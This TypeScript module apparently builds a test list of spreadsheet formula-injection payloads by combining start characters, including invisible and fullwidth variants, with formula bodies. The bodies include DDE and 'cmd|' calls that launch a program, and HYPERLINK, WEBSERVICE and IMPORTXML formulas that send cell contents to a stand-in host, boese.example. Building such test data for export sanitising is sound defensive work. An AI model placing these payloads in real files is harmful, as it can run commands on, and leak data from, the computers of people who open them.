const starts = [
  '=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '  +', "'=", '"=', '＝', '＋', '－', '＠', ';=', ',=', '\u00a0=', '\u200b=', '==',
]; // prettier-ignore
const bodies = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://boese.example/?x="&A1,"Klick")',
  'WEBSERVICE("http://boese.example/")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("http://boese.example/",A1),"//a")',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  'of:=1+1',
  'msoxl:=1+1',
  '[.A1]',
  'A1',
  '"a" & "b"',
  'a";=1+1',
  '&lt;f&gt;1&lt;/f&gt;',
  '1E5',
];

/** What spreadsheets have been made to run, as names of applications. */
export const formulaPayloads: readonly string[] = starts.flatMap((start) =>
  bodies.map((body) => start + body),
);

/** One line with single blanks and without invisible signs; an export changes nothing else of a text. */
export const tidy = (text: string): string => text.replaceAll('\u200b', '').replace(/\s+/gu, ' ').trim();
